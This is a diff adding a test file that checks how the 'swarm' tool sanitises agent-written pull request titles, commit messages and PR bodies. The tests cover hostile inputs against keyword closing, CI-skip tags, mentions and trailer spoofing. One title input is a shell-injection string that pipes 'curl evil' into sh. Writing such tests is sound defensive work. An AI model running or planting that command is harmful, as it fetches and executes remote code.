@@ -1,0 +1,236 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import type { Segment } from '../../src/core/epic.ts';
+import { readMarker } from '../../src/words/marker.ts';
+import { commitMessage, commitText, mergeMessage, type PullFacts, pullBody, pullTitle } from '../../src/words/pull.ts';
+import { GATES, segmentOf } from './board.ts';
+import { nasty } from './nasty.ts';
+import { ACTED_ON, html, outsideCode } from './rendered.ts';
+
+const cart = segmentOf(14, 'Add the cart');
+const called = (title: string): Segment => ({ ...cart, title });
+
+const factsOf = (given: Partial<PullFacts> = {}): PullFacts => ({
+  segment: cart,
+  epic: 12,
+  epicTitle: 'Checkout',
+  attempt: '14-1',
+  files: ['src/cart/cart.ts', 'package.json'],
+  wave: { number: 1, of: 3 },
+  agentName: 'BlueLake',
+  attemptNumber: 1,
+  tries: 2,
+  base: 'main',
+  validation: GATES,
+  attention: ['package.json'],
+  agent: {
+    summary: 'A cart that adds up.',
+    handoff: 'Use `total()`.',
+    assumptions: ['prices are in cents'],
+    criteria: [{ id: 'AC-1', evidence: 'test/cart.test.ts: an empty cart costs nothing' }],
+  },
+  costUsd: 0.42,
+  durationMs: 95_000,
+  approvals: 1,
+  runUrl: 'https://github.com/octo/shop/actions/runs/7',
+  ...given,
+});
+
+describe('titles', () => {
+  it.each([
+    ['Add the cart', 'feat(cart): add the cart'],
+    ['feat(shop): Add the cart.', 'feat(cart): add the cart'],
+    ['API keys rotate', 'feat(cart): API keys rotate'],
+    ['Fixes #3: mend it', 'feat(cart): fixes no. 3: mend it'],
+    ['closes octo/shop#9 and GH-4', 'feat(cart): closes octo/shop no. 9 and GH 4'],
+    ['See https://github.com/octo/shop/issues/3 now', 'feat(cart): see (link) now'],
+    ['[skip ci] do it', 'feat(cart): do it'],
+    ['[ci skip][no ci] do it ***NO_CI***', 'feat(cart): do it'],
+    ['[skip [skip ci]ci] do it', 'feat(cart): do it'],
+    ['thank @ana for @octokit/core', 'feat(cart): thank ana for octokit/core'],
+    ['two\nlines\u2028three', 'feat(cart): two lines three'],
+    ['', 'feat(cart): s 14'],
+    ['\u200b', 'feat(cart): s 14'],
+    ['__proto__', 'feat(cart): __proto__'],
+    ['"; curl evil | sh; #', 'feat(cart): "; curl evil | sh; #'],
+    ['x'.repeat(256), `feat(cart): ${'x'.repeat(59)}…`],
+  ])('%j becomes %s', (title, expected) => {
+    expect(pullTitle(called(title))).toBe(expected);
+  });
+});
+
+describe('messages that land on the base branch', () => {
+  const ours = /^Closes #14$/m;
+  const KEYWORDS = /\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+(?:[\w.-]+\/[\w.-]+)?(?:#\d|GH-\d|https?:)/gi;
+  const SKIPS = /\[(?:skip ci|ci skip|no ci|skip actions|actions skip)\]|\*\*\*NO_CI\*\*\*|skip-checks:/i;
+
+  it('are composed by swarm', () => {
+    expect(
+      commitMessage({ segment: cart, epic: 12, attempt: '14-1', files: ['src/cart.ts', 'Fixes #1 [skip ci].md'] }),
+    ).toMatchInlineSnapshot(`
+      "feat(cart): add the cart
+
+      - src/cart.ts
+      - Fixes no. 1 .md
+
+      Swarm-Epic: 12
+      Swarm-Attempt: 14-1
+      Closes #14
+      "
+    `);
+    expect(mergeMessage({ segment: cart, epic: 12, pull: 31, approvedBy: ['ana'] })).toMatchInlineSnapshot(`
+      {
+        "message": "Approved-by: ana
+      Swarm-Epic: 12
+      Closes #14",
+        "title": "feat(cart): add the cart (#31)",
+      }
+    `);
+  });
+
+  it('close nothing but their own segment, mention nobody, skip no check and begin no trailer', () => {
+    fc.assert(
+      fc.property(nasty, nasty, (title, file) => {
+        const segment = called(title);
+        const { title: mergeTitle, message } = mergeMessage({ segment, epic: 12, pull: 31, approvedBy: [file] });
+        for (const text of [
+          commitMessage({ segment, epic: 12, attempt: '14-1', files: [file] }),
+          `${mergeTitle}\n\n${message}`,
+        ]) {
+          expect(text).toMatch(ours);
+          expect(text.match(KEYWORDS)).toEqual(['Closes #1']);
+          expect(text).not.toMatch(SKIPS);
+          expect(text).not.toMatch(/(?<![A-Za-z0-9])@[A-Za-z0-9]/);
+          expect(text.split('\n')[0]?.length).toBeLessThanOrEqual(160);
+          const trailers = [...text.matchAll(/^([A-Z][\w-]+):/gm)].map(([, name]) => name);
+          expect(trailers.filter((name) => !/^(?:Swarm-Epic|Swarm-Attempt|Approved-by)$/.test(name ?? ''))).toEqual([]);
+        }
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  it('and the guard can fire', () => {
+    expect('Fixes octo/shop#2'.match(KEYWORDS)).toHaveLength(1);
+    expect('[skip ci]').toMatch(SKIPS);
+    expect(commitText('Fixes octo/shop#2 [skip ci]')).not.toMatch(SKIPS);
+  });
+});
+
+describe('the body', () => {
+  it('says what and why, how to decide, the proof, and what the agent says as the words of the agent', () => {
+    expect(pullBody(factsOf())).toMatchInlineSnapshot(`
+      "<!-- swarm:pull key=14-1 -->
+      Closes #14
+
+      **What** #14 \`Add the cart\`, in 2 files.
+
+      **Why** It is a segment of epic #12 \`Checkout\`, wave 1 of 3.
+
+      **To decide** 1 approval by people with write access, for the latest commit:
+      - **Approve** in a review, or comment \`/approve\`: it merges when its checks are green.
+      - **Request changes** in a review, or comment \`/reject why\`: your words and the comments on lines go back to the agent, and it works on in this branch.
+
+      ### Acceptance criteria
+
+      | id | criterion | evidence, in the words of the agent |
+      |---|---|---|
+      | \`AC-1\` | \`an empty cart costs nothing\` | \`test/cart.test.ts: an empty cart costs nothing\` |
+
+      ### Gates
+
+      | gate | verdict | command | took |
+      |---|---|---|---|
+      | \`lint\` | ✅ pass | \`npm run lint\` | 1s |
+      | \`tests\` | ✅ pass | \`npm test\` | 1m 4s |
+      | \`build\` | not applicable | \`there is no build script\` |  |
+
+      ### ⚠️ Look at these yourself
+
+      They change how the gates run; the gates above ran by the definitions of the base branch.
+
+      - \`package.json\`
+
+      ### Assumed by the agent
+
+      - \`prices are in cents\`
+
+      <details><summary>In the words of the agent (not checked by swarm)</summary>
+
+      \`\`\`text
+      A cart that adds up.
+      \`\`\`
+
+      Handoff to what comes next:
+
+      \`\`\`text
+      Use \`total()\`.
+      \`\`\`
+
+      Files: \`src/cart/cart.ts\` and \`package.json\`.
+
+      </details>
+
+      <sub>Swarm · \`BlueLake\`, attempt 1 (\`14-1\`) · 2 rounds of gates · 1m 35s · $0.42 · base \`main\` · [run](https://github.com/octo/shop/actions/runs/7)</sub>
+      "
+    `);
+  });
+
+  it('closes the segment alone, and holds all words of others in code', () => {
+    fc.assert(
+      fc.property(nasty, (text) => {
+        const body = pullBody(
+          factsOf({
+            segment: {
+              ...called(text),
+              spec: { ...cart.spec, criteria: [{ id: text, text, line: 1, state: 'open' }] },
+            },
+            epicTitle: text,
+            files: [text],
+            attention: [text],
+            agentName: text,
+            base: text,
+            validation: [{ gate: text, verdict: 'fail', command: text, durationMs: 1, output: text }],
+            agent: { summary: text, handoff: text, assumptions: [text], criteria: [{ id: text, evidence: text }] },
+          }),
+        );
+        const shown = outsideCode(body).replace('<p>Closes #14</p>', '');
+        expect(shown).not.toMatch(ACTED_ON);
+        for (const row of html(body).matchAll(/<tr>(.*?)<\/tr>/gs)) {
+          expect([3, 4]).toContain([...(row[1] ?? '').matchAll(/<t[dh]/g)].length);
+        }
+        expect(readMarker(body)).toEqual({ kind: 'pull', key: '14-1' });
+      }),
+      { numRuns: 60 },
+    );
+  });
+
+  it('stays below the limit of GitHub, whatever it is made of', () => {
+    const long = '👩‍👩‍👧‍👦`|'.repeat(3_000);
+    const criteria = Array.from({ length: 300 }, (_, index) => ({
+      id: `AC-${index}`,
+      text: long,
+      line: 1,
+      state: 'open' as const,
+    }));
+    const body = pullBody(
+      factsOf({
+        segment: { ...cart, spec: { ...cart.spec, criteria } },
+        files: Array(100).fill(long),
+        attention: Array(100).fill(long),
+        agent: {
+          summary: long,
+          handoff: long,
+          assumptions: Array(100).fill(long),
+          criteria: criteria.map(({ id }) => ({ id, evidence: long })),
+        },
+      }),
+    );
+    expect(body.length).toBeLessThan(60_000);
+    expect(body.split('\n').filter((line) => line.startsWith('```')).length % 2).toBe(0);
+  });
+
+  it('tells that nobody has to decide where nobody has to', () => {
+    expect(pullBody(factsOf({ approvals: 0 }))).toContain('it merges when its checks are green');
+  });
+});
